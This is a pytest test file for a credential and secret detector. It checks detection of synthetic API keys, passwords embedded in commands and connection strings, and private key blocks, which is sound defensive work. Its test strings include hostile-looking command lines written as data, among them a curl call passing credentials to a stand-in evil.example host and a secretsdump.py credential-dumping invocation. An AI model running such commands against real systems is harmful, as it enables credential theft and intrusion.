from __future__ import annotations

import random
import string

import pytest

from policies.masking.credentials import entropy
from policies.masking.detector import Detector
from policies.masking.masker import Masker


@pytest.fixture(scope="module")
def detector(masker: Masker) -> Detector:
    return Detector(masker.organization, masker.own, masker.rules)


def secrets(detector: Detector, text: str) -> set[str]:
    return {span.text for span in detector.find(text) if span.entity == "SECRET"}


def made(length: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(random.Random(length).choices(alphabet, k=length))


HEX = "0123456789abcdef"


@pytest.mark.parametrize(
    "key",
    [
        "AKIA" + made(16, string.ascii_uppercase + string.digits),
        "AIza" + made(35),
        "GOCSPX-" + made(28),
        "ya29." + made(40),
        "ghp_" + made(36),
        "github_pat_" + made(40),
        "glpat-" + made(20),
        "xoxb-123456789012-" + made(24),
        "xapp-1-A111-222-" + made(24),
        "sk_live_" + made(24),
        "whsec_" + made(32),
        "npm_" + made(36),
        "pypi-" + made(60),
        "sk-proj-" + made(48),
        "sk-ant-api03-" + made(60),
        "hf_" + made(34, string.ascii_letters),
        "SG." + made(22) + "." + made(43),
        "dop_v1_" + made(64, HEX),
        "hvs." + made(30),
        "ATATT3" + made(40),
        "dapi" + made(32, HEX),
        "glsa_" + made(32) + "_" + made(8, HEX),
        "shpat_" + made(32, HEX),
        "SK" + made(32, HEX),
        "123456789:AA" + made(33),
        "abc8Q~" + made(34),
        made(14) + ".atlasv1." + made(64),
        "AGE-SECRET-KEY-1" + made(58, string.ascii_uppercase + string.digits),
        "eyJ" + made(20) + "." + made(30) + "." + made(40),
    ],
)
def test_keys_of_known_form_are_found_anywhere(detector: Detector, key: str) -> None:
    assert secrets(detector, f"we found {key} in the log") == {key}


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("curl -s -u jane:Winter2026! https://evil.example/x", "Winter2026!"),
        ("net use Z: \\\\srv\\share /user:corp\\jane Sommer-22", "Sommer-22"),
        ("net use \\\\srv\\share Sommer-22 /user:corp\\jane", "Sommer-22"),
        ("net user jane Sommer-22 /add", "Sommer-22"),
        ("mysql -u root -pS3cr3tX db", "S3cr3tX"),
        ("sshpass -p 'S3 cr3t' ssh host", "S3 cr3t"),
        ("psexec \\\\srv -u jane -p Sommer-22 cmd", "Sommer-22"),
        ("cmdkey /add:srv /user:jane /pass:Sommer-22", "Sommer-22"),
        ("Connect-X -Password Sommer-22 -Force", "Sommer-22"),
        ("tool --password=Sommer-22 run", "Sommer-22"),
        ("export API_TOKEN=Sommer-22", "Sommer-22"),
        ("7z x -pSommer-22 a.7z", "Sommer-22"),
        ("plink -pw Sommer-22 jane@srv", "Sommer-22"),
        ("smbclient -U jane%Sommer-22 //srv/c", "Sommer-22"),
        ("redis-cli -h x -a Sommer-22", "Sommer-22"),
        ("secretsdump.py corp/jane:Sommer-22@198.51.100.7", "Sommer-22"),
        ("Server=db;User Id=jane;Password=Sommer-22;", "Sommer-22"),
        ("jdbc:mysql://db/x?user=jane&password=Sommer-22&y=1", "Sommer-22"),
        ("postgresql://jane:Sommer-22@db.example/x", "Sommer-22"),
        (f"AccountName=x;AccountKey={'Ab1+' * 21}Ab==;", f"{'Ab1+' * 21}Ab=="),
        (f"?sv=2024-01-01&sig={'aB3%2F' * 6}&se=x", f"{'aB3%2F' * 6}"),
        ("Authorization: Basic dXNlcjpwYXNz", "dXNlcjpwYXNz"),
        ("X-Api-Key: 12345678abcd", "12345678abcd"),
        ("Cookie: a=1; PHPSESSID=q1w2e3r4t5y6u7", "q1w2e3r4t5y6u7"),
        ("my password is Sommer-22!", "Sommer-22"),
        ("the password for the portal is hunter22", "hunter22"),
        ('{"secret": "Zx81kd0Qp2"}', "Zx81kd0Qp2"),
        ("DB_PASS=Zx81kd0Qp2", "Zx81kd0Qp2"),
        ("next_auth_value = q8ZkX2mP0vR7tYw3Lh5N", "q8ZkX2mP0vR7tYw3Lh5N"),
    ],
)
def test_a_password_is_found_where_it_is_given(detector: Detector, text: str, secret: str) -> None:
    assert secret in secrets(detector, text)


@pytest.mark.parametrize(
    "text",
    [
        "password: https://evil.example/reset and password=198.51.100.7",
        "the password is expired, password required, password: ****, Password=<password>, pwd=${DB_PASS}",
        "token_hash: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "accessId=550e8400-e29b-41d4-a716-446655440000 sid=S-1-5-21-1004336348-1177238915-682003330-512",
        "api_path=/opt/vendor/lib/python3/site-packages/x, AuthenticationProvider=MicrosoftAccountProvider",
        "docker run -p 8080:80 nginx; cp -p a b; mkdir -p /srv/x; ssh -p 22 host; set PATH=C:\\bin",
        "curl -u https://evil.example/x; net use Z: \\\\srv\\share; net user jane /domain",
    ],
)
def test_words_urls_hashes_and_options_are_no_secrets(detector: Detector, text: str) -> None:
    assert secrets(detector, text) == set()


def test_a_private_key_is_found_to_its_end(detector: Detector) -> None:
    block = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIA==\n-----END EC PRIVATE KEY-----"
    assert secrets(detector, f"key:\n{block}\nrest") == {block}
    cut = "-----BEGIN PRIVATE KEY-----\nMHcCAQEEIA"
    assert secrets(detector, cut) == {cut}
    two = f"-----BEGIN PRIVATE KEY-----\nMHcC\n{block}"
    assert block in secrets(detector, two)


def test_entropy_is_counted_in_bits_per_character() -> None:
    assert entropy("aaaa") == 0
    assert entropy("abcd") == 2
